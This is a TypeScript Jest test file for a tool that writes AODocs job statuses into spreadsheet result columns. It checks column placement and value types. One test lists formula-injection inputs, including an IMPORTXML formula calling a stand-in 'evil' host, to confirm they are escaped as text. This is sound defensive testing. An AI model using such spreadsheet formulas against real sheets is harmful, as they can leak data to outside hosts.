import { parseTypedInput } from '../../emulator/spreadsheet/typed-input';
import { JobOutcome } from '../../src/core/job-outcome';
import { RESULT_HEADERS, layoutResultColumns, resultValues } from '../../src/core/result-columns';

const ORDER = [
  'Status',
  'Completed',
  'Succeeded tasks',
  'Failed tasks',
  'Remaining tasks',
  'Task retries',
  'Last activity',
  'Result',
  'Checked at',
];

describe('RESULT_HEADERS', () => {
  test('are the columns of docs/BEHAVIOUR.md, in its order', () => {
    expect([...RESULT_HEADERS]).toEqual(ORDER);
  });
});

describe('layoutResultColumns', () => {
  test('creates every missing column right of the last used column, in order', () => {
    const layout = layoutResultColumns(['Job ID', 'Library', 'Note'], 3);
    expect(layout.created).toEqual(ORDER.map((header, i) => ({ header, column: 4 + i })));
    expect(layout.columns).toEqual(Object.fromEntries(ORDER.map((header, i) => [header, 4 + i])));
  });

  test('finds existing columns by header text, case-insensitively, and creates only the missing ones', () => {
    const layout = layoutResultColumns(['Job ID', 'STATUS', 'result', 'checked AT'], 4);
    expect(layout.columns.Status).toBe(2);
    expect(layout.columns.Result).toBe(3);
    expect(layout.columns['Checked at']).toBe(4);
    expect(layout.created).toEqual([
      { header: 'Completed', column: 5 },
      { header: 'Succeeded tasks', column: 6 },
      { header: 'Failed tasks', column: 7 },
      { header: 'Remaining tasks', column: 8 },
      { header: 'Task retries', column: 9 },
      { header: 'Last activity', column: 10 },
    ]);
  });

  test('tolerates surrounding and doubled spaces in a header', () => {
    const layout = layoutResultColumns(['Job ID', '  Succeeded   tasks ', 'Last\u00a0activity'], 3);
    expect(layout.columns['Succeeded tasks']).toBe(2);
    expect(layout.columns['Last activity']).toBe(3);
    expect(layout.created.map((c) => c.header)).not.toContain('Succeeded tasks');
  });

  test('places new columns right of the last used column even when the header row is shorter', () => {
    const layout = layoutResultColumns(['Job ID', 'Status'], 7);
    expect(layout.columns.Status).toBe(2);
    expect(layout.created[0]).toEqual({ header: 'Completed', column: 8 });
    expect(layout.created[layout.created.length - 1]).toEqual({ header: 'Checked at', column: 15 });
  });

  test('places new columns right of the header row when it is longer than the reported last column', () => {
    const layout = layoutResultColumns(['Job ID', '', '', 'Notes'], 2);
    expect(layout.created[0]).toEqual({ header: 'Status', column: 5 });
  });

  test('a column whose header merely contains a result name is not a result column', () => {
    const layout = layoutResultColumns(['Job ID', 'Status note', 'Result (old)'], 3);
    expect(layout.columns.Status).toBe(4);
    expect(layout.columns.Result).toBe(11);
  });

  test('the first of two columns with the same header is used', () => {
    const layout = layoutResultColumns(['Job ID', 'Status', 'status'], 3);
    expect(layout.columns.Status).toBe(2);
  });

  test('creates nothing when every column exists, whatever their order', () => {
    const headers = ['Job ID', ...[...ORDER].reverse()];
    const layout = layoutResultColumns(headers, headers.length);
    expect(layout.created).toEqual([]);
    expect(layout.columns.Status).toBe(10);
    expect(layout.columns['Checked at']).toBe(2);
  });

  test('never lays a result column over a used column that is not a result column', () => {
    const headers = ['Job ID', 'Owner', 'Status', 'Notes'];
    const layout = layoutResultColumns(headers, 4);
    for (const header of RESULT_HEADERS) {
      const column = layout.columns[header];
      expect(column === 3 || column > 4).toBe(true);
    }
    expect(new Set(Object.values(layout.columns)).size).toBe(RESULT_HEADERS.length);
  });
});

// Sheets parses a string handed to setValues like typed input unless it starts with an apostrophe.
/** True when the string, written through setValues, would not land as its own text (the emulator's parser). */
function parsableByAsInput(value: unknown): boolean {
  if (typeof value !== 'string' || value === '') return false;
  const stored = parseTypedInput(value, 'Etc/UTC');
  const text = value.startsWith("'") ? value.slice(1) : value;
  return stored.formula !== '' || stored.value !== text;
}

describe('resultValues', () => {
  const checkedAt = new Date(Date.UTC(2024, 4, 1, 12, 0, 0));

  test('a full job: status as literal text, Completed a boolean, counters numbers, dates Date values', () => {
    const outcome: JobOutcome = {
      outcome: 'done',
      result: 'Cancelled',
      httpCode: 200,
      job: {
        jobId: 'j1',
        status: 'CANCELLED',
        completed: true,
        succeededTasks: 10,
        failedTasks: 2,
        remainingTasks: 0,
        taskRetries: 5,
        lastActivityAt: 1700000123456,
      },
    };
    const row = resultValues(outcome, checkedAt);
    expect(row.Status).toBe('CANCELLED'); // no digit, no formula start: no mark that a plain-text cell could keep
    expect(row.Completed).toBe(true);
    expect(row['Succeeded tasks']).toBe(10);
    expect(row['Failed tasks']).toBe(2);
    expect(row['Remaining tasks']).toBe(0);
    expect(row['Task retries']).toBe(5);
    expect(row['Last activity']).toBeInstanceOf(Date);
    expect((row['Last activity'] as Date).getTime()).toBe(1700000123456);
    expect(row.Result).toBe('Cancelled');
    expect(row['Checked at']).toBeInstanceOf(Date);
    expect((row['Checked at'] as Date).getTime()).toBe(checkedAt.getTime());
    expect(Object.keys(row).sort()).toEqual([...ORDER].sort());
  });

  test('Checked at is a copy: changing the date passed in later does not change the row', () => {
    const at = new Date(1000);
    const row = resultValues({ outcome: 'done', result: 'Cancelled', job: { status: 'CANCELLED' } }, at);
    at.setTime(2000);
    expect((row['Checked at'] as Date).getTime()).toBe(1000);
  });

  test.each<[string, boolean]>([
    ['COMPLETED', true],
    ['CANCELLED', true],
    ['FAILED', true],
    ['IN_PROGRESS', false],
  ])('Completed is derived from status %s when AODocs omits it', (status, completed) => {
    expect(resultValues({ outcome: 'done', result: 'x', job: { status } }, checkedAt).Completed).toBe(completed);
  });

  test.each<[JobOutcome]>([
    [{ outcome: 'failed', result: 'Not found (404)', httpCode: 404 }],
    [{ outcome: 'failed', result: 'AODocs refused the security code (403)', httpCode: 403 }],
    [{ outcome: 'failed', result: 'AODocs unavailable, try again (503)', httpCode: 503, transient: true }],
    [{ outcome: 'invalid', result: 'Invalid job ID' }],
    [{ outcome: 'failed', result: 'AODocs gave no status', httpCode: 200, job: { jobId: 'j1', succeededTasks: 3 } }],
  ])('a request that read no status writes only Result: the status columns keep what AODocs said (%p)', (outcome) => {
    expect(resultValues(outcome, checkedAt)).toEqual({ Result: outcome.result });
  });

  test('a zero counter is written as 0, not left empty', () => {
    const row = resultValues(
      { outcome: 'done', result: 'x', job: { status: 'IN_PROGRESS', failedTasks: 0, lastActivityAt: 0 } },
      checkedAt,
    );
    expect(row['Failed tasks']).toBe(0);
    expect(row['Last activity']).toBeInstanceOf(Date);
  });

  test.each<[string]>([
    ['=IMPORTXML("http://evil","//a")'],
    ['+1234'],
    ['-1'],
    ['@SUM(A1:A9)'],
    ['\t=1'],
    ['\r=1'],
    ['TRUE'],
    ['1/2'],
    ['2024-01-01'],
  ])('status %p from AODocs is written so it cannot become a formula or a value', (status) => {
    const row = resultValues({ outcome: 'done', result: status, job: { status, type: status } }, checkedAt);
    expect(row.Status).toBe(`'${status}`);
    expect(row.Result).toBe(`'${status}`);
    for (const value of Object.values(row)) expect(parsableByAsInput(value)).toBe(false);
  });

  test.each<[JobOutcome]>([
    [{ outcome: 'invalid', result: 'Invalid job ID' }],
    [{ outcome: 'failed', result: 'AODocs unavailable, try again (503)', httpCode: 503 }],
    [{ outcome: 'already-finished', result: 'Already completed', job: { status: 'COMPLETED', succeededTasks: 4 } }],
  ])('no string of the row for %p can be parsed as input', (outcome) => {
    const row = resultValues(outcome, checkedAt);
    for (const [header, value] of Object.entries(row)) {
      expect([header, parsableByAsInput(value)]).toEqual([header, false]);
    }
  });
});
